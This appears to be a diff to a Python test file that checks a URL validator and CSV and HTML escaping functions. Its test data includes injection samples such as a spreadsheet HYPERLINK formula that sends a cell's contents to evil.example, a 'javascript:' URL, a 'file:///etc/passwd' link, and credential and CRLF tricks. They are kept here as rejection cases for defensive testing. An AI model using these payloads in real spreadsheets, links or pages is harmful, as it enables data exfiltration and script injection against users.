@@ -9,7 +9,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from tests.often import examples
-from tracker.application.escaping import csv_cell, html_text
+from tracker.application.escaping import MOST_OF_AN_ADDRESS, csv_cell, html_text, is_plain_address
 
 FORMULAS = (
     "=1+1", '=HYPERLINK("https://evil.example?x="&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1",
@@ -71,3 +71,44 @@ def test_markup_is_text_in_a_page_and_in_an_attribute(text: str) -> None:
 def test_what_acts_or_hides_is_visible_in_a_page_and_paragraphs_stay() -> None:
     assert html_text("did \u202enot\n<b>\x1b[m") == "did \\u202enot\n&lt;b&gt;\\x1b[m"
     assert html_text("one\n two") == "one\n two"
+
+
+PLAIN = (
+    "https://www.brecorder.com/news/40284361", "http://example.org", "https://example.org/", "https://example.org:8443/a",
+    "https://a-b.example.co.uk/2024/01/17/a_b~c.html?x=1&y=%C3%A9+z,w#part-2", "https://video.example.com/@name/(1)!",
+    "https://xn--bcher-kva.example/",
+)  # fmt: skip
+ODD = (
+    "javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "ftp://example.org/", "HTTPS://example.org/", "//example.org",
+    "https://", "https:///example.org", "https://localhost/", "http://127.0.0.1/", "http://0x7f.1/", "http://[::1]/",
+    "https://example.org@evil.example/", "https://user:word@evil.example/", "https://example.org:@evil.example/",
+    "https://example.org\\@evil.example/", "https://example.org/a b", " https://example.org/", "https://example.org/\n",
+    "https://example.org/<b>", "https://example.org/>x", 'https://example.org/"', "https://example.org/'", "https://example.org/`",
+    "https://example.org/|", "https://example.org/\x1b[2J", "https://example.org/\u202etxt", "https://ex\u0430mple.org/",
+    "https://example.org/é", "https://example.org/&amp;", "https://example.org/&#x6A;", "https://example.org/[x](y)",
+    "https://example.org/%zz", "https://example.org/%0d%0aX", "https://example.org/%E2%80%AEtxt%00", "https://example.org:123456/",
+    f"https://example.org/{'x' * MOST_OF_AN_ADDRESS}",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_an_address_of_plain_signs_may_be_followed(text: str) -> None:
+    assert is_plain_address(text)
+
+
+@pytest.mark.parametrize("text", ODD)
+def test_an_address_that_is_odd_in_any_way_may_not(text: str) -> None:
+    assert not is_plain_address(text)
+
+
+@given(st.text(st.sampled_from("ahtps:/.@%2e0?=&;#<>\\ \n\u202eé"), max_size=40))
+@settings(derandomize=True, max_examples=examples(500))
+def test_what_may_be_followed_leads_to_the_host_that_is_read(text: str) -> None:
+    from urllib.parse import urlsplit
+
+    for address in (text, f"https://{text}", f"https://a.at/{text}"):
+        if is_plain_address(address):
+            parts = urlsplit(address)
+            assert (parts.username, parts.password) == (None, None)
+            assert address.startswith(f"{parts.scheme}://{parts.hostname}")
+            assert html_text(address).replace("&amp;", "&") == address
